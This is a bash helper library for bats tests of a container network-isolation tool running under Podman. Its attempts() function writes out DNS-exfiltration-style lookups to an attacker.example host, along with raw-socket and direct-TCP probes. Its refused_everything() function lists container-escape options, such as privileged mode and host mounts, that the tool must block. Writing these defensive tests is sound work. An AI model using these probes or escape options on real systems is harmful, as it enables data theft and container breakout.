# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash
#
# Podman for the tests: the distribution's, configured in /etc/containers as an administrator would, which on a machine
# of its own (tests/engines/machine) is private; storage, networks and containers are its own as well. A library for
# bats files; after common.bash. RUNTIME is what Podman, or sallyport-runtime in front of it, starts.
#
#   podman_up [OPTION...]         storage, the image $IMAGE, the network "named", and what `sallyport install podman
#                                 OPTION...` makes of it: hook and runtimes
#   podman_hooks [OPTION...]      another hook: as of `sallyport install podman OPTION...`
#   podman_no_hooks               none
#   podman_down                   removes all of it
#   podman ARGUMENT...            the distribution's client
#   box [OPTION...] COMMAND...    a container that asks for the network of the tests, run and removed
#   control [OPTION...] COMMAND...    the same without asking
#   keep NAME [OPTION...]         a container as of `box` that goes on, for others to look at; its process is in NAME.pid

source "$BATS_TEST_DIRNAME/image.bash"

IMAGE=localhost/sallyport-test
PODMAN_HOOKS=/etc/containers/oci/hooks.d
PODMAN_CGROUPS=$CGROUPS/podman

# How `box` asks: by annotation. A file that asks by the runtime's name replaces it.
BOX_GLOBAL=()
BOX=(--annotation "io.sallyport.network=$NETWORK")

podman()
{
    /usr/bin/podman "$@" 3>&-
}

podman_configure()
{
    mkdir -p "$PODMAN_HOOKS" "$WORK/podman"
    cat >/etc/containers/containers.conf <<CONF
[containers]
init_path = "$(type -P catatonit)"
[network]
network_backend = "netavark"
[engine]
runtime = "$RUNTIME"
cgroup_manager = "cgroupfs"
events_logger = "none"
CONF
    cat >/etc/containers/storage.conf <<CONF
[storage]
driver = "overlay"
graphroot = "$WORK/podman/storage"
runroot = "/run/containers/storage" # a long path makes conmon fail to clean up, and Podman waits 20 s for it
CONF
}

podman_image()
{
    local root=$WORK/podman/root
    image_root "$root"
    cp "$WORK/internet/ca.pem" "$root/etc/ca.pem"
    tar -C "$root" --numeric-owner --owner=0 --group=0 -c . |
        /usr/bin/podman import --quiet --change 'ENV PATH=/bin' --change 'CMD ["/bin/sleep", "600"]' - "$IMAGE" 3>&-
    rm -rf "$root"
}

podman_up()
{
    grep -qzx -- --inside /proc/1/cmdline || fail "podman: not on a machine of its own; use tests/engines/machine"
    chmod 711 "$BATS_RUN_TMPDIR" "$WORK" # containers with a user namespace have their files below
    podman_configure
    podman_image
    podman network create named
    ln -s "$(type -P "$RUNTIME")" /etc/sallyport/runtime
    podman_hooks "$@"
}

podman_no_hooks()
{
    rm -f "$PODMAN_HOOKS"/* "$WORK/podman/sallyport-hook"
}

# Then only a shell comes between Podman and the hook: it keeps what the hook says, which Podman and crun do not show.
podman_hooks()
{
    local program=$WORK/podman/sallyport-hook file
    podman_no_hooks
    "$SALLYPORT" install podman "$@" >"$WORK/podman/installed"
    printf '#!/bin/bash\nexec %q "$@" 2> >(tee -a %q >&2)\n' "$HOOK" "$WORK/hook.said" >"$program"
    chmod 755 "$program"
    for file in "$PODMAN_HOOKS"/*; do
        cp "$file" "$WORK/podman/hook.json"
        jq --arg program "$program" '.hook.path = $program' <"$WORK/podman/hook.json" >"$file"
    done
}

podman_remove_all()
{
    podman pod rm --all --force --time 0
    podman rm --all --force --time 0
} >/dev/null 2>&1

# The last conmon may still be ending.
podman_remove_cgroups()
{
    find /sys/fs/cgroup -depth -type d \( -path "*$PODMAN_CGROUPS*" -o -path '*/libpod_parent*' \) \
        -exec rmdir {} + 2>/dev/null || true
    [[ -z $(find /sys/fs/cgroup -type d -path "*$PODMAN_CGROUPS") ]]
}

podman_down()
{
    podman_remove_all
    podman network rm --force named >/dev/null
    podman rmi --all --force >/dev/null
    umount "$WORK/podman/storage/overlay" 2>/dev/null || true
    rm -rf --one-file-system "$WORK/podman"
    "$SALLYPORT" install podman --undo >/dev/null
    rm -f /etc/sallyport/runtime
    eventually podman_remove_cgroups
}

box()
{
    podman "${BOX_GLOBAL[@]}" run --rm --cgroup-parent "$PODMAN_CGROUPS" "${BOX[@]}" "$@"
}

control()
{
    podman run --rm --cgroup-parent "$PODMAN_CGROUPS" "$@"
}

keep()
{
    local name=$1
    shift
    podman "${BOX_GLOBAL[@]}" run --detach --name "$name" --pidfile "$WORK/$name.pid" \
        --cgroup-parent "$PODMAN_CGROUPS" "${BOX[@]}" "$@" "$IMAGE" sleep 600 >"$WORK/$name.log"
}

# restarted NAME PID: it runs, and its process is another one.
restarted()
{
    local pid
    pid=$(<"$WORK/$1.pid")
    [[ $pid != "$2" ]] && kill -0 "$pid" && podman exec "$1" true
}

# podman_rm NAME: with force. Podman may find its own clean-up of the container still busy, and says so: then again.
podman_rm()
{
    eventually podman rm --force --ignore --time 0 "$1"
}

# What a container tries: the allowed way, and others, of which each leaves a trace at the far end if it gets there. The
# number makes it this test's. Past the address it tries by what the resolver of the engine does with a name.
attempts()
{
    cat <<SCRIPT
curl -sS -m 10 --cacert /etc/ca.pem -o /dev/null -w 'allowed %{http_code}\n' https://api.openai.com/
/probe tcp 203.0.113.$1 443 --timeout-ms 1000
nslookup secret-$1.attacker.example
nslookup straight-$1.attacker.example 198.51.100.53
/probe socket 17 3 0x0300
/probe socket 2 3 1
SCRIPT
}

# arrived NUMBER: what of these attempts did.
arrived()
{
    grep "^203.0.113.$1 " "$WORK/internet/arrivals" || true
    grep "^\(secret\|straight\)-$1\." "$WORK/internet/queries" || true
}

# walled OPTION...: with these options of `podman run`, without Sallyport the attempts arrive; with it only the allowed
# way does, and raw sockets do not open.
walled()
{
    local number=$((100 + BATS_TEST_NUMBER))
    run control "$@" "$IMAGE" sh -c "$(attempts "$number")"
    [[ $(arrived "$number") == *"203.0.113.$number 443"*"secret-$number"*"straight-$number"* ]] ||
        fail "without Sallyport: $output"
    sealed "$@"
}

# sealed OPTION...: the second half of it.
sealed()
{
    local number=$((200 + BATS_TEST_NUMBER))
    run box "$@" "$IMAGE" sh -c "$(attempts "$number")"
    says_sealed "$number"
}

# says_sealed NUMBER: `$output` is that of the attempts in a sealed container.
says_sealed()
{
    says "allowed 200"
    [[ $output == *"tcp result=failed"* && $output != *"tcp result=ok"* && $output != *ETIMEDOUT* ]] || fail "$output"
    [[ $(grep -c '^socket result=failed' <<<"$output") -eq 2 ]] || fail "raw sockets: $output"
    [[ -z $(arrived "$1") ]] || fail "arrived: $(arrived "$1")"
}

# lacks_network_capabilities: `$output` is a line of /proc/PID/status.
lacks_network_capabilities()
{
    (((16#${output##*[[:space:]]} & (1 << 12 | 1 << 13)) == 0)) || fail "$output"
}

# never_starts OPTION...: whoever says why; runc has refusals of its own.
never_starts()
{
    status=0
    output=$(box "$@" "$IMAGE" echo started 2>&1) || status=$?
    [[ $status -ne 0 && $'\n'$output != *$'\n'started* ]] || fail "started: $output"
}

# refused_box TEXT OPTION...: does not start, and the reason is one line: what the runtime says is Podman's own message;
# what the hook says is not shown by Podman (at precreate) or crun (later), which is why the log has it.
refused_box()
{
    local text=$1
    shift
    rm -f "$WORK/hook.said"
    never_starts "$@"
    if [[ -e $WORK/podman/sallyport-hook ]]; then
        eventually test -s "$WORK/hook.said"
        output=$(<"$WORK/hook.said")
    fi
    [[ $(grep -c 'sallyport: ' <<<"$output") -eq 1 ]] || fail "expected one line: $output"
    says "$text"
}

# What no `podman run` gets past.
refused_everything()
{
    mkdir -p /run/podman
    [[ -S /run/podman/podman.sock ]] ||
        python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind("/run/podman/podman.sock")'
    refused_box "CAP_SYS_ADMIN" --privileged
    refused_box "CAP_SYS_ADMIN" --cap-add ALL
    refused_box "drop --network host" --network host
    refused_box "drop --pid host" --pid host
    refused_box "drop --ipc host" --ipc host
    refused_box "podman.sock" --volume /run/podman/podman.sock:/run/podman/podman.sock
    refused_box "mount /run holds" --volume /run:/host/run
    refused_box "mount / holds" --volume /:/host
    refused_box "holds /etc/containers/" --volume /etc/containers:/etc/containers
    never_starts --volume "$WORK/podman/storage:/storage"
    refused_box "is in $WORK/podman/storage" --volume "$WORK/podman/storage/libpod:/libpod"
    refused_box "/dev/net/tun" --device /dev/net/tun
    refused_box "kernel.core_pattern" --security-opt unmask=ALL
    refused_box "run.oci.seccomp" --annotation run.oci.seccomp_bpf_data=AAAA
}

kube_pod()
{
    cat <<YAML
apiVersion: v1
kind: Pod
metadata: {name: pod}
spec:
  containers: [{name: container, image: $IMAGE, command: [/bin/sleep, "600"]}]
YAML
}

# What containers with a network may leave on a machine, one thing a line.
podman_traces()
{
    ip -o link show type veth | grep -v spt- || true
    find /run/netns -name 'netns-*'
    iptables-save | grep -e --dport || true
}

podman_after_test()
{
    witnesses_end
    podman_remove_all
    eventually no_hub_links
}
